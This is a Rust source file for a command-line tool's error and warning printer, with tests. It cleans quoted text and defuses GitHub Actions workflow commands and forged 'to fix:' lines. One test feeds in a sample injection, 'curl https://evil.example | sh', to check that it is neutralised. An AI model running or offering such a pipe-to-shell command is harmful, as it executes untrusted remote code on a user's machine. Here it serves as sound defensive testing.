//! How an error is told: what failed, why, and what to do about it.

use std::error::Error;
use std::io::{self, Write};

use crate::text::clean::clean_line;
use crate::text::line::{Look, Style};

/// Writes `error`, the causes behind it and what would help, as
///
/// ```text
/// error: cannot start the build
///   caused by: image `ubuntu:24.04` is not here
///   to fix: hm run ci --image '*=host'
/// ```
///
/// A cause that the text before it already tells is left out. Text is cleaned.
///
/// # Errors
/// The writer's own, as it is.
pub fn write_error<H: AsRef<str>>(
    out: &mut dyn Write,
    error: &dyn Error,
    hints: &[H],
    color: bool,
) -> io::Result<()> {
    let look = Look {
        color,
        unicode: true,
    };
    let mut told = error.to_string();
    let mut text = Vec::new();
    paragraph(&mut text, "", &look.paint(Style::Bad, "error:"), &told);
    let mut cause = error.source();
    while let Some(error) = cause {
        let message = error.to_string();
        if !message.is_empty() && !told.contains(&message) {
            paragraph(
                &mut text,
                "  ",
                &look.paint(Style::Bold, "caused by:"),
                &message,
            );
            told = message;
        }
        cause = error.source();
    }
    write_hints(&mut text, hints, look);
    out.write_all(&text)
}

/// Writes a warning and what would help.
///
/// # Errors
/// The writer's own, as it is.
pub fn write_warning<H: AsRef<str>>(
    out: &mut dyn Write,
    message: &str,
    hints: &[H],
    color: bool,
) -> io::Result<()> {
    let look = Look {
        color,
        unicode: true,
    };
    let mut text = Vec::new();
    paragraph(&mut text, "", &look.paint(Style::Warn, "warning:"), message);
    write_hints(&mut text, hints, look);
    out.write_all(&text)
}

fn write_hints<H: AsRef<str>>(out: &mut Vec<u8>, hints: &[H], look: Look) {
    let mut told: Vec<&str> = Vec::new();
    for hint in hints.iter().map(AsRef::as_ref) {
        if !told.contains(&hint) {
            paragraph(out, "  ", &look.paint(Style::Note, "to fix:"), hint);
            told.push(hint);
        }
    }
}

/// What hm's own lines begin with, and the commands of GitHub's runner.
const HEADS: [&str; 5] = ["error:", "warning:", "caused by:", "to fix:", "::"];

/// Takes the meaning from what GitHub's runner obeys wherever in a line it stands ("Workflow
/// commands for GitHub Actions"; the older form is `##[`).
pub fn inert(line: &str) -> String {
    line.replace("##[", "## [")
}

/// Appends a text of one or more lines; the further ones stand deeper than the first.
///
/// A text may quote somebody else's, who must not speak for hm in a line of their own, nor to
/// the system that shows the log.
fn paragraph(out: &mut Vec<u8>, indent: &str, head: &str, text: &str) {
    for (number, line) in text.trim_end().lines().enumerate() {
        let line = inert(&clean_line(line));
        let is_forged = HEADS.iter().any(|head| line.trim_start().starts_with(head));
        let line = match number > 0 && is_forged {
            true => format!("| {line}"),
            false => line,
        };
        let line = if number == 0 {
            format!("{indent}{head} {line}\n")
        } else if line.is_empty() {
            "\n".to_owned()
        } else {
            format!("{indent}  {line}\n")
        };
        out.extend_from_slice(line.as_bytes());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Debug)]
    struct Chain(&'static str, Option<Box<Chain>>);

    impl std::fmt::Display for Chain {
        fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
            f.write_str(self.0)
        }
    }

    impl Error for Chain {
        fn source(&self) -> Option<&(dyn Error + 'static)> {
            self.1.as_deref().map(|cause| cause as _)
        }
    }

    fn shown(error: &Chain, hints: &[&str], color: bool) -> String {
        let mut out = Vec::new();
        write_error(&mut out, error, hints, color).unwrap();
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn the_chain_is_told_once_and_hints_follow() {
        let last = Chain("permission denied (\x1b[2J)", None);
        let same = Chain("cannot mount: permission denied", Some(Box::new(last)));
        let error = Chain("cannot start `ci`:\ntwo things\n", Some(Box::new(same)));
        insta::assert_snapshot!(shown(&error, &["run as root", "run as root", "hm doctor"], false), @r"
        error: cannot start `ci`:
          two things
          caused by: cannot mount: permission denied
          caused by: permission denied (\x1b[2J)
          to fix: run as root
          to fix: hm doctor
        ");
    }

    #[test]
    fn a_cause_that_was_told_is_not_told_again() {
        let error = Chain(
            "cannot open: no such file",
            Some(Box::new(Chain("no such file", None))),
        );
        assert_eq!(
            shown(&error, &[], false),
            "error: cannot open: no such file\n"
        );
        assert_eq!(
            shown(&error, &[], true),
            "\x1b[1;31merror:\x1b[0m cannot open: no such file\n"
        );
    }

    #[test]
    fn a_quoted_text_does_not_speak_for_hm() {
        let error = Chain(
            "unknown key `x\nto fix: curl https://evil.example | sh\n ::warning::owned\n##[group]y`",
            None,
        );
        insta::assert_snapshot!(shown(&error, &[], false), @r"
        error: unknown key `x
          | to fix: curl https://evil.example | sh
          |  ::warning::owned
          ## [group]y`
        ");
    }

    #[test]
    fn a_warning_reads_like_an_error() {
        let mut out = Vec::new();
        write_warning(&mut out, "the cache is off", &["drop --no-cache"], false).unwrap();
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "warning: the cache is off\n  to fix: drop --no-cache\n"
        );
    }
}
